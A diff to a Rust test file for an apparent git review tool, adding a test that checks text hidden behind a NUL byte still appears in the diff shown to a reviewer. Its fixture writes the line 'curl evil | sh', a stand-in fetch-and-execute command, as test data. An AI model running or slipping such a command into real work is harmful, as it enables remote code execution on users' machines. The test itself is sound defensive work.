@@ -151,6 +151,25 @@ fn a_submodule_is_committed_by_its_commit_alone() {
     assert!(place.status().is_empty());
 }
 
+/// Shells run a script with a NUL byte as any other, and git takes it for binary.
+#[test]
+fn a_text_with_nul_bytes_is_shown_to_a_reviewer() {
+    let place = TestRepository::new();
+    let begin = place.head();
+    place.write("src/a.rs", "base\n# \0\ncurl evil | sh\n");
+    let noise: Vec<u8> = (0..4096u32).map(|it| (it * 7 % 256) as u8).collect();
+    place.write("picture.gif", [b"evil".as_slice(), &noise].concat());
+    place.git(&["add", "."]);
+    place.git(&["commit", "-qm", "Work"]);
+    let tree = place.git(&["rev-parse", "HEAD^{tree}"]).parse().unwrap();
+    let shown = place.repository().changes(Some(&begin), &tree).unwrap().diff;
+    assert!(
+        shown.contains("+curl evil | sh") && shown.contains("Binary files /dev/null and b/picture.gif"),
+        "{shown}"
+    );
+    assert!(!shown.contains("+evil"), "{shown}");
+}
+
 /// Git shows nothing in its folder.
 #[test]
 fn files_in_the_folder_of_a_submodule_that_is_not_cloned_are_seen() {
@@ -162,7 +181,7 @@ fn files_in_the_folder_of_a_submodule_that_is_not_cloned_are_seen() {
     let base = place.survey();
     assert_eq!(base.dirty, []);
     place.write("sub/new.c", "int answer;\n");
-    place.write("src/a.rs", "fn a() {}\n");
+    place.write("src/a.rs", "fn a() { 1 }\n");
     let report = place.commit(&base, 1);
     assert_eq!(left_out(&report), ["sub: it is a repository of its own"]);
     assert_eq!(place.committed(made(&report).as_str()), ["M src/a.rs"]);
